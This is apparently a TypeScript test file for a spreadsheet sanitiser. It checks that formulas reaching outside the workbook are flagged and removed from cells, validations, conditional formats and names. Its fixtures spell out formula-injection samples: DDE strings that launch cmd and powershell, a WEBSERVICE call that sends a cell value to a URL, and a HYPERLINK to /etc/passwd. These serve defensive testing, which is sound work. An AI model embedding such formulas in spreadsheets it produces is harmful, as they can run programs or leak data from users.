import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { assertStaysInside, outsideReach, removeOutsideReferences, REMOVED_TEXT } from './outside-references.js';

describe('outsideReach', () => {
  it.each([
    ['[1]Sheet1!A1', 'a reference to another workbook'],
    ['[1]Sheet1!A1*2+B3', 'a reference to another workbook'],
    ['SUM([book.xlsx]Sheet1!A1:A4)', 'a reference to another workbook'],
    ['[1]!Rate', 'a reference to another workbook'],
    ["'C:\\x\\[book.xlsx]Sheet1'!A1", 'a reference to another workbook or file'],
    ["'[book.xlsx]My sheet'!A1+1", 'a reference to another workbook or file'],
    ["'https://example.com/[book.xlsx]Sheet1'!A1", 'a reference to another workbook or file'],
    ["cmd|' /C calc'!A0", 'a link to another program (DDE)'],
    ['cmd|\'/C powershell -c "x"\'!A0+0.5', 'a link to another program (DDE)'],
    ['WEBSERVICE("https://example.com/?"&B2)', 'WEBSERVICE reaches outside the workbook'],
    ['_xlfn.WEBSERVICE("https://example.com")', 'WEBSERVICE reaches outside the workbook'],
    ['1+ _xlfn.IMAGE("https://example.com/x.png")', 'IMAGE reaches outside the workbook'],
    ['rtd("prog.id",,"x")', 'RTD reaches outside the workbook'],
    ['HYPERLINK("file:///etc/passwd", 0.5)', 'HYPERLINK reaches outside the workbook'],
  ])('flags %s', (formula, why) => {
    expect(outsideReach(formula)).toBe(why);
  });

  it.each([
    '1/(1+EXP(-B2))',
    "Parameters!B4*'Backprop'!C3",
    "'My sheet (2)'!A1+'a|b'!C1",
    'SUM(Table1[Sales])+Table1[[#This Row],[Cost]]',
    '"[1]Sheet1!A1"&"cmd|x"',
    'IF(A1>0,"WEBSERVICE(",0)',
    'MYWEBSERVICE(A1)',
  ])('leaves %s alone', (formula) => {
    expect(outsideReach(formula)).toBeNull();
  });
});

describe('removeOutsideReferences and assertStaysInside', () => {
  it('takes outside formulas out of cells, validations, conditional formats and names; what is left stays inside', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Backprop');
    sheet.getCell('A1').value = { formula: '[1]Sheet1!A1', result: 0.59 } as ExcelJS.CellFormulaValue;
    sheet.getCell('A2').value = { formula: "cmd|' /C calc'!A0", result: 0.75 } as ExcelJS.CellFormulaValue;
    sheet.getCell('A3').value = { formula: 'A1*2', result: 1.18 } as ExcelJS.CellFormulaValue;
    sheet.getCell('B1').dataValidation = { type: 'list', formulae: ['[1]Lists!$A$1:$A$3'] };
    sheet.getCell('B2').dataValidation = { type: 'list', formulae: ['"a,b"'] };
    sheet.addConditionalFormatting({ ref: 'C1:C3', rules: [{ type: 'expression', priority: 1, formulae: ['WEBSERVICE("https://example.com")="1"'] }] });
    workbook.definedNames.add("'C:\\x\\[book.xlsx]Sheet1'!$A$1", 'Stolen');
    workbook.definedNames.add('Backprop!$A$3', 'Kept');

    // Before: a package made from it would carry them.
    await expect(assertStaysInside(Buffer.from(await workbook.xlsx.writeBuffer()))).rejects.toMatchObject({ code: 'INTERNAL' });
    const removed = removeOutsideReferences(workbook);
    expect(removed.map((r) => r.where).sort()).toEqual(['Backprop!A1', 'Backprop!A2', 'the conditional format of Backprop!C1:C3', 'the defined name Stolen', 'the drop-down list of Backprop!B1'].sort());
    expect(sheet.getCell('A1').value).toBe(REMOVED_TEXT);
    expect(sheet.getCell('A3').formula).toBe('A1*2');
    const written = Buffer.from(await workbook.xlsx.writeBuffer());
    await expect(assertStaysInside(written)).resolves.toBeUndefined();
    const text = (await new ExcelJS.Workbook().xlsx.load(written as unknown as ExcelJS.Buffer)).getWorksheet('Backprop')?.getCell('B2').dataValidation;
    expect(text?.formulae).toEqual(['"a,b"']);
  });
});
